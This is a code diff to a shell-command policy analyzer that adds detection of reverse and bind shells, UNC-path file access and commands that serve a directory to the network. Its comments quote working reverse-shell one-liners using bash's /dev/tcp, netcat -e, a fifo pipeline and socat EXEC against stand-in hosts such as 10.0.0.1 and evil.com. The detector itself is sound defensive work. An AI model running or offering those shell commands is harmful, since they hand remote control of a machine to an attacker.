@@ -40,7 +40,8 @@ from policy.engine import commands as C
 from policy.engine import destructive as D
 from policy.engine import powershell as PS
 from policy.engine.bash_types import BashAnalysis, Finding, Redirect, SimpleCommand
-from policy.engine.paths import EXPANSION_TEXT, HOME_DIR, home_of, is_inside, patch_targets, proc_link, secret_under
+from policy.engine.paths import (EXPANSION_TEXT, HOME_DIR, home_of, is_inside, patch_targets, proc_link, remote_share,
+                                 secret_under)
 from policy.engine.permissions import harmless_env
 from policy.engine.shell_fast import new_analysis as _new_analysis
 from policy.engine.shell_fast import new_finding as _new_finding
@@ -85,6 +86,8 @@ CHOWN_ROOT = "chown_recursive_root"
 CHMOD_SYSTEM = "chmod_system_dir"
 PIPE_TO_SHELL = "pipe_to_shell"
 REMOTE_CODE = "remote_code_execution"
+REMOTE_SHELL = "remote_shell"
+REMOTE_FILE = "remote_file"
 SQL_DROP = "sql_drop"
 SQL_UNBOUNDED = "sql_destructive"
 SQL_RISKY = "risky_sql"
@@ -135,6 +138,9 @@ REASONS = {
     CHMOD_SYSTEM: "recursive permission or ownership change on a system directory",
     PIPE_TO_SHELL: "code fetched from the network is run by a shell or interpreter",
     REMOTE_CODE: "code fetched from the network is run",
+    REMOTE_FILE: ("opens a file on another machine by a UNC path (Windows connects to it and offers the user's "
+                  "credentials)"),
+    REMOTE_SHELL: "a shell or program is served to the network (a reverse or bind shell: whoever connects runs commands here)",
     SQL_DROP: "SQL DROP or TRUNCATE",
     SQL_UNBOUNDED: D.REASON_UNBOUNDED_SQL,
     SQL_RISKY: "SQL a person should see first",
@@ -1707,6 +1713,7 @@ class _Analyzer:
         self.unknown_writes = False
         self.language: str | None = None
         self.n_fetch = 0
+        self.n_stdin_shells = 0   # shells reading their code from a pipe (probe round 26)
         self.nodes = 0
         self.tests_seen = False
         self.assigns_seen = False   # a standalone assignment (x=1, export DEBUG=1)
@@ -1745,6 +1752,8 @@ class _Analyzer:
         v = w.value
         if not v:
             return None
+        if v[0] in "\\/" and len(v) > 4 and v[1] in "\\/?" and remote_share(v):
+            self.risk(REMOTE_FILE, v)   # cat //evil.com/share/x, \\host\share (Git Bash, WSL's interop)
         if v.startswith("~") and w.tilde:
             head, sep, rest = v.partition("/")
             if head == "~":
@@ -2434,11 +2443,17 @@ class _Analyzer:
         # (true | d=build; rm -rf "$d": d is not build)
         saved_vars = dict(self.vars) if len(stages) > 1 else None
         piped_ctx = ctx if ctx.piped else ctx.but(piped=True)
+        shells = self.n_stdin_shells
         for k, node in enumerate(stages):
             if last_stdin is not None and k == len(stages) - 1:
                 cur = last_stdin   # a | b < f: b reads f, not a's output
             before = self.n_fetch
+            shell_before = self.n_stdin_shells > shells
             sub = self.stmt(node, piped_ctx, cur)
+            if shell_before and self.n_fetch > before:
+                # cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f: a shell reading a pipe
+                # whose output goes to the network (the fifo brings the answers back)
+                self.cat(REMOTE_SHELL, self._t(node))
             fetch = fetch or sub.fetch or self.n_fetch > before
             cur = _Stream(fetch=fetch, text=sub.text, piped=True, endless=sub.endless, roots=sub.roots, under=sub.under,
                           names=sub.names, build=sub.build, env=sub.env, dump=sub.dump)
@@ -2568,6 +2583,12 @@ class _Analyzer:
                     targets.append(child)
                 else:
                     raise _Unparseable(ERR_SYNTAX)
+            nxt = node.next_sibling
+            if len(targets) > 1 and targets[-1].type == "number" and nxt is not None \
+                    and nxt.type in _REDIRECT_TYPES and targets[-1].end_byte == nxt.start_byte:
+                # > /dev/tcp/h/1 0>&1: the grammar hangs the 0 of "0>&1" on the redirection
+                # before it; bash reads it as the next one's descriptor, not as a word
+                targets.pop()
             words = [self.word(x, ctx) for x in targets]
             target = words[0] if words else None
             extra_words.extend(words[1:])
@@ -4457,6 +4478,11 @@ class _Analyzer:
         """A shell or interpreter that takes its program from standard input."""
         if stdin is not None and stdin.fetch:
             self.cat(PIPE_TO_SHELL, text)
+        if shell and any(r.target is not None and _NET_DEVICE_TEXT.match(r.target.value) for r in redirs):
+            # bash -i >& /dev/tcp/10.0.0.1/4242 0>&1: its input and output are a socket
+            self.cat(REMOTE_SHELL, text)
+        if shell and stdin is not None and stdin.piped and stdin.text is None:
+            self.n_stdin_shells += 1   # (a later stage sending it on: pipeline)
         if shell and stdin is not None and stdin.text is not None:
             saved_cwd, saved_vars = self.dir_state(), dict(self.vars)
             self.parse_text(stdin.text, ctx.but(depth=ctx.depth + 1, wrappers=ctx.wrappers + (name,), written=written))
@@ -5197,6 +5223,13 @@ class _Analyzer:
             if code is not None:
                 self.scan_code(code, ctx, text, awk=True)
             return
+        if name.startswith("php") and any(w.value == "-S" or w.value.startswith("-S") for w in args):
+            self.served_dir(args, "-t", skip="Scdz")   # php -S 0.0.0.0:8000 -t /: its built-in web server
+        if name.startswith("ruby") and any(w.value in ("-run", "-r") for w in args) \
+                and any(w.value in ("httpd", "-ehttpd") for w in args):
+            # ruby -run -e httpd DIR -p 8000 (un.rb's web server)
+            at = next(k for k, w in enumerate(args) if w.value in ("httpd", "-ehttpd"))
+            self.served_dir(args[at + 1:], positional=True, skip="pb", skip_long=("port", "bind-address"))
         i = 0
         while i < len(args):
             w = args[i]
@@ -5209,7 +5242,25 @@ class _Analyzer:
                 break
             if v in C.INTERPRETER_MODULE_OPTS:
                 has_source = True
+                if name.startswith("python") and i + 1 < len(args):
+                    self.served_module(args[i + 1], args[i + 2:])
                 break
+            if w.exact and (name.startswith("perl") or name.startswith("ruby")) and v.startswith("-") \
+                    and not v.startswith("--") and len(v) > 2:
+                # perl -pe CODE, -lne CODE, -e'CODE' attached; ruby -ne CODE, -e'CODE'
+                # (letters that take a value attached end the cluster: perl -I/-M/-i, ruby -r/-I)
+                stops = "IMmixdD0lC" if name.startswith("perl") else "IrxCF0TWKE"
+                codes = "eE" if name.startswith("perl") else "e"
+                j = 1
+                while j < len(v) and v[j] not in stops and v[j] not in codes:
+                    j += 1
+                if j < len(v) and v[j] in codes:
+                    if j + 1 < len(v):
+                        code = _Word(value=v[j + 1:], dynamic=w.dynamic, exact=w.exact, fetch=w.fetch)
+                    elif i + 1 < len(args):
+                        code = args[i + 1]
+                    if code is not None:
+                        break
             if v == "-" or (w.exact and _STDIN_PATH.fullmatch(v)):
                 break   # (python3 /dev/stdin, /dev/fd/0: the program is the stream it reads)
             if v.startswith("-"):
@@ -5406,6 +5457,8 @@ class _Analyzer:
                     self.mark_dynamic()
         if _CODE_FORK_BOMB_RE.search(src):
             self.cat(FORK_BOMB, text)
+        if ("sock" in src or "/inet" in src or "/dev/" in src or "TCP" in src or "net" in src) and D.remote_shell_code(src):
+            self.cat(REMOTE_SHELL, text)   # a reverse or bind shell in the language's own words
         if not awk:
             # open('/home/dev/.ssh/id_rsa'), File.read("~/.aws/credentials"), open(".env"):
             # every string that may be a path, as a file the code may read or write
@@ -5913,6 +5966,10 @@ class _Analyzer:
             tool = tool.rsplit("@", 1)[0] if tool.count("@") == 1 and not tool.startswith("@") else tool
             if tool in C.INTERPRETERS:
                 self.interpreter(tool, args[i:], ctx, part, stdin)
+            elif tool in _SERVER_PACKAGES:
+                # npx serve ~, npx http-server /: the package's own server, as run bare
+                getattr(self, "fx_" + tool.replace("-", "_"))(args[i + 1:], [w.value for w in args[i + 1:]], part,
+                                                              ctx, False, stdin)
 
     fx_dcfldd = fx_dd
     fx_dc3dd = fx_dd
@@ -6465,6 +6522,138 @@ class _Analyzer:
         if not wrote:
             self.download_by_name(args, part)
 
+    # -- programs served to the network (probe round 26) --------------------------------------
+
+    def served_dir(self, rest: list[_Word], short: str = "", long: tuple[str, ...] = (), positional: bool = False,
+                   skip: str = "", skip_long: tuple[str, ...] = ()) -> None:
+        """A file server's document root (``python3 -m http.server -d ~``, ``php -S h:p -t
+        /``, ``npx serve ~``, the working directory when none is given): every file under
+        it is readable by whoever reaches the port, a read of the whole tree (serving / or
+        the home serves ~/.ssh). ``short``/``long``: the option naming it; ``positional``:
+        the first operand does (``skip``/``skip_long``: options whose value is no operand)."""
+        directory: _Word | None = None
+        i = 0
+        while i < len(rest):
+            w, v = rest[i], rest[i].value
+            nxt = rest[i + 1] if i + 1 < len(rest) else None
+            if v == "--" and w.exact:
+                if positional and nxt is not None and directory is None:
+                    directory = nxt
+                break
+            if v.startswith("--") and w.exact:
+                key, eq, val = v[2:].partition("=")
+                if long and len(key) >= 3 and C.long_hits(key, long):
+                    directory = _Word(value=val, exact=w.exact, tilde=val.startswith("~")) if eq else nxt
+                    i += 1 if not eq else 0
+                elif not eq and skip_long and key in skip_long:
+                    i += 1
+            elif v.startswith("-") and len(v) > 1 and w.exact:
+                if short and v == short:
+                    directory = nxt
+                    i += 1
+                elif short and v.startswith(short) and len(short) == 2:
+                    directory = _Word(value=v[2:], exact=True, tilde=v[2:].startswith("~"))
+                elif len(v) == 2 and v[1] in skip:
+                    i += 1
+            elif positional and directory is None:
+                directory = w
+            i += 1
+        if directory is None:
+            self.whole_read(self.cwd)
+        elif not directory.exact:
+            self.mark_dynamic()
+        else:
+            self.whole_read(self.abs_path(directory))
+
+    def served_module(self, mod: _Word, rest: list[_Word]) -> None:
+        """python -m http.server / SimpleHTTPServer / uploadserver / pyftpdlib: the
+        directory it serves."""
+        if mod.exact and mod.value in _SERVING_MODULES:
+            self.served_dir(rest, "-d", ("directory",))
+
+    def fx_http_server(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
+        self.served_dir(args, positional=True, skip="pacdeSCKtUPo", skip_long=("port", "address", "cors", "proxy", "cert", "key",
+                                                                           "username", "password", "ext", "log-ip"))
+
+    fx_serve = fx_live_server = fx_miniserve = fx_darkhttpd = fx_servor = fx_http_server
+
+    def fx_updog(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
+        self.served_dir(args, "-d", ("directory",))
+
+    def fx_webfsd(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
+        self.served_dir(args, "-r")
+
+    def fx_httpd(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
+        self.served_dir(args, "-h")   # busybox httpd -h ROOT
+
+    def fx_caddy(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
+        if vals[:1] == ["file-server"]:
+            self.served_dir(args[1:], "-r", ("root",))
+
+    def fx_twistd(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
+        if "web" in vals:
+            self.served_dir(args[vals.index("web") + 1:], "", ("path",))
+
+
+    def fx_nc(self, args, vals, part, ctx, unknown_tail, stdin, always: bool = False) -> None:
+        """netcat's program options (nc.traditional/busybox ``-e PROG``, ``-c CMD``; ncat's
+        ``--exec``, ``--sh-exec``, ``--lua-exec``): the program's standard input and output
+        are the socket, a reverse shell when it connects out, a bind shell when it listens
+        (``nc -lvp 4444 -e /bin/bash``, ``nc -e sh 10.0.0.1 4242``). OpenBSD's ``-e NAME``
+        (a TLS peer name) and ``-c`` (TLS, no value) are not programs and keep the ask."""
+        i = 0
+        while i < len(args):
+            w, v = args[i], args[i].value
+            nxt = args[i + 1] if i + 1 < len(args) else None
+            if v == "--" and w.exact:
+                break
+            if v.startswith("--") and w.exact:
+                key = v[2:].split("=", 1)[0]
+                if len(key) >= 2 and C.long_hits(key, ("exec", "sh-exec", "lua-exec")):
+                    self.cat(REMOTE_SHELL, part)
+                    return
+            elif v.startswith("-") and len(v) > 1 and w.exact:
+                letters = C.short_cluster(v, _NC_WITH_ARG)
+                if letters and letters[-1] in _NC_WITH_ARG:
+                    attached = v[len(letters) + 1:]
+                    value = _static(attached) if attached else nxt
+                    if letters[-1] in "ec" and value is not None and (always or _program_value(value)):
+                        self.cat(REMOTE_SHELL, part)
+                        return
+                    if not attached:
+                        i += 1   # (-p 4444, -s addr: the option's value)
+            i += 1
+
+    fx_netcat = fx_nc_traditional = fx_nc_openbsd = fx_nc_exe = fx_nc64_exe = fx_nc64 = fx_nc
+
+    def fx_ncat(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
+        """Nmap's ncat: ``-e``/``-c`` always name a program (``ncat -c id h 1``)."""
+        self.fx_nc(args, vals, part, ctx, unknown_tail, stdin, always=True)
+
+    fx_ncat_exe = fx_ncat
+
+    def fx_socat(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
+        """socat joining a program (``EXEC:``, ``SYSTEM:``) to a network address (``TCP:``,
+        ``TCP-LISTEN:``, ``OPENSSL:``, ``UDP:``...): the program is served to whoever is at
+        the other end (``socat TCP-LISTEN:4444,fork EXEC:/bin/sh``, ``socat
+        tcp-connect:h:443 exec:bash,pty``). A program known only at run time counts."""
+        addrs = [w for w in args if not (w.exact and w.value.startswith("-") and w.value != "-")]
+        program = any(_SOCAT_PROGRAM.match(w.value) or (not w.exact and not _SOCAT_TYPED.match(w.value))
+                      for w in addrs)
+        network = any(not w.exact or _SOCAT_NETWORK.match(w.value) for w in addrs)
+        if program and network:
+            self.cat(REMOTE_SHELL, part)
+
+    def fx_gotty(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
+        """A terminal served on a web page (gotty, ttyd, GoTTY's forks): with a shell (or a
+        program known only at run time) in it, whoever opens the page types into it."""
+        for w in args:
+            if not w.exact or (not w.value.startswith("-") and _basename(w.value) in _SERVED_SHELLS):
+                self.cat(REMOTE_SHELL, part)
+                return
+
+    fx_ttyd = fx_gotty
+
     def fx_git(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         glob, sub, sub_args, _ = C.git_split(vals)
         for i, v in enumerate(glob):
@@ -6726,6 +6915,32 @@ class _Analyzer:
 
 # every name effects() has a check for beyond reads and privilege (a name with "-" or "."
 # is always checked: its handler name is derived from it)
+# probe round 26: what a served program is (netcat's -e/-c value, a terminal server's
+# program), socat's addresses that run one and that reach the network
+_SERVED_SHELLS = C.SHELLS | C.INTERPRETERS | frozenset({"login", "su", "cmd", "cmd.exe", "busybox", "tmux", "screen",
+                                                        "sudo", "env", "script"})
+_SERVING_MODULES = frozenset({"http.server", "SimpleHTTPServer", "CGIHTTPServer", "uploadserver", "pyftpdlib",
+                              "RangeHTTPServer", "updog", "twisted"})
+_SERVER_PACKAGES = frozenset({"serve", "http-server", "live-server", "servor", "gotty", "ttyd"})
+_NC_WITH_ARG = "ecgGiImMoOpPqsTVwWxX"   # netcat's options with a value (traditional, ncat, OpenBSD)
+_SOCAT_PROGRAM = re.compile(r"(?i)(?:exec|system)[:,]")
+_SOCAT_TYPED = re.compile(r"[A-Za-z][A-Za-z0-9-]*[:,]")   # an address whose type is written out
+_SOCAT_NETWORK = re.compile(r"(?i)(?:tcp[46]?|udp[46]?|sctp[46]?|dccp[46]?|udplite[46]?|ssl|openssl|socks[45a]*|"
+                            r"proxy|ip[46]?|ip-sendto|ip-recv|rawip|vsock|tun)(?:-[a-z0-9-]+)?[:,]")
+
+
+def _program_value(w: "_Word") -> bool:
+    """Is netcat's -e/-c value a program (a path, a command line, a shell or interpreter
+    by name, or a word known only at run time), rather than OpenBSD's TLS peer name?"""
+    if not w.exact:
+        return True
+    v = w.value.strip()
+    if not v:
+        return False
+    first = v.split()[0]
+    return "/" in v or "\\" in v or any(c in v for c in " \t;|&") or _basename(first) in _SERVED_SHELLS
+
+
 _EFFECT_NAMES = (C.FORMATTERS | C.PARTITIONERS | {"diskutil"} | C.POWER | C.WRITE_ALL_OPERANDS | C.NETWORK_CLIENTS
                  | C.CONTAINER_RUNTIMES | frozenset(C.PUBLISHERS) | C.SQL_CLIENTS | {"kubectl"}
                  | frozenset(k[3:] for k in dir(_Analyzer) if k.startswith("fx_")))
